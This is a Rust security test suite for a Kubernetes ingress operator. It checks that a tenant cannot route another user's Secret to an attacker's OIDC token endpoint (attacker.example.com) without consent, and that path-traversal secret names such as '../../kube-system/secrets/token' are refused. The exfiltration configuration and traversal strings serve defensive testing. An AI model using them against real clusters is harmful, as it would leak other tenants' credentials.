//! A tenant who may write a `MyIngress` has AWS send another user's Secret to the tenant's own token endpoint.

use causeway_api::MyIngress;
use k8s_openapi::api::core::v1::Secret;
use kube::api::{Patch, PatchParams};
use serde_json::{Value, json};

use crate::myingress::{answers, ready, spec, stalled_by};
use crate::support::certificates::{EXAMPLE_COM, import};
use crate::support::scene::is_ready;
use crate::support::{Account, Operator, Scene, wait_for};

/// The value of the Secret, which must not leave the namespace unless its owner agrees.
const VALUE: &str = "hunter2-of-the-database";

async fn secret(scene: &Scene, labels: &Value) {
    write_secret(scene, labels, VALUE).await;
}

async fn write_secret(scene: &Scene, labels: &Value, value: &str) {
    let object = json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": { "name": "database", "labels": labels },
        "stringData": { "password": value },
    });
    let force = PatchParams::apply("test").force();
    scene.api::<Secret>().patch("database", &force, &Patch::Apply(&object)).await.expect("the Secret is taken");
}

/// A log-in at the attacker's, with another user's Secret.
fn log_in(certificate: &str, attacker: &str) -> Value {
    let oidc = json!({
        "issuer": format!("https://{attacker}"), "authorizationEndpoint": format!("https://{attacker}/authorize"),
        "tokenEndpoint": format!("https://{attacker}/token"), "userInfoEndpoint": format!("https://{attacker}/user"),
        "clientId": "any", "clientSecretName": "database", "clientSecretKey": "password",
    });
    let action = json!({ "authenticateOidc": oidc, "fixedResponse": { "statusCode": 200 } });
    spec(json!({ "listeners": [
        { "port": 80, "rules": [{ "hosts": ["a.example.com"], "action": { "fixedResponse": { "statusCode": 200 } } }] },
        { "port": 443, "certificateArns": [certificate], "rules": [{ "hosts": ["a.example.com"], "action": action }] },
    ] }))
}

/// Everything that AWS was sent, and everything that it has.
async fn in_aws(scene: &Scene) -> String {
    let journal = scene.emulator.send("GET", "journal", &Value::Null).await;
    format!("{journal} {}", Account::of(scene).await.text())
}

#[tokio::test]
async fn a_secret_goes_to_aws_only_where_it_agrees() {
    let scene = Scene::new("security-oidc").await;
    let _operator = Operator::start(&scene).await;
    let certificate = import(&scene, EXAMPLE_COM).await;
    secret(&scene, &json!({ "causeway.example.com/usable-by": "redis" })).await;
    scene.create::<MyIngress>("web", log_in(&certificate, "attacker.example.com")).await;
    let message = stalled_by(&scene, "web", "SecretNotShared").await;
    let command =
        format!("kubectl -n {} label secret database causeway.example.com/usable-by=myingress", scene.namespace);
    assert!(message.contains(&command), "{message}");
    assert!(scene.balancers().await.is_empty(), "nothing is half-made");

    // The owner of the Secret agrees.
    secret(&scene, &json!({ "causeway.example.com/usable-by": "myingress" })).await;
    ready(&scene, "web").await;
    assert!(in_aws(&scene).await.contains("attacker.example.com/token"));

    // The owner agrees no more: what is in AWS stays, and nothing else is sent there.
    secret(&scene, &json!({})).await;
    stalled_by(&scene, "web", "SecretNotShared").await;
    scene.emulator.clear_journal().await;
    scene.edit::<MyIngress>("web", log_in(&certificate, "second.example.com")).await;
    let swept = || async {
        let calls = scene.emulator.journal().await;
        calls.iter().filter(|call| call.operation == "DescribeLoadBalancers").count()
    };
    wait_for("three sweeps", swept, |count| *count >= 3).await;
    stalled_by(&scene, "web", "SecretNotShared").await;
    let aws = in_aws(&scene).await;
    assert!(!aws.contains("second.example.com"), "the Secret is sent elsewhere");
    assert!(aws.contains("attacker.example.com/token"), "the rule that was there stays");
    assert_eq!(answers(&scene).await, [("a.example.com".to_owned(), "200".to_owned())]);

    secret(&scene, &json!({ "causeway.example.com/usable-by": "myingress" })).await;
    scene.ingress("web", "it to go on", is_ready).await;
}

#[tokio::test]
async fn a_secret_over_four_kib_is_no_client_secret() {
    let scene = Scene::new("security-oidc").await;
    let _operator = Operator::start(&scene).await;
    let certificate = import(&scene, EXAMPLE_COM).await;
    let agreed = json!({ "causeway.example.com/usable-by": "myingress" });
    write_secret(&scene, &agreed, &"a".repeat(4097)).await;
    scene.create::<MyIngress>("web", log_in(&certificate, "login.example.com")).await;
    let message = stalled_by(&scene, "web", "SecretMissing").await;
    assert!(message.contains("4096 bytes"), "{message}");
    write_secret(&scene, &agreed, &"a".repeat(4096)).await;
    ready(&scene, "web").await;
}

#[tokio::test]
async fn a_secret_has_a_name_and_not_a_path() {
    let scene = Scene::new("security-oidc").await;
    for name in ["../../kube-system/secrets/token", "a/b", "a?watch=1", "A"] {
        let mut object = log_in("arn:aws:acm:us-east-1:000000000000:certificate/a", "attacker.example.com");
        object["listeners"][1]["rules"][0]["action"]["authenticateOidc"]["clientSecretName"] = json!(name);
        let refused = scene.try_create::<MyIngress>("web", object).await.expect_err(name).to_string();
        assert!(refused.contains("clientSecretName"), "{refused}");
    }
}
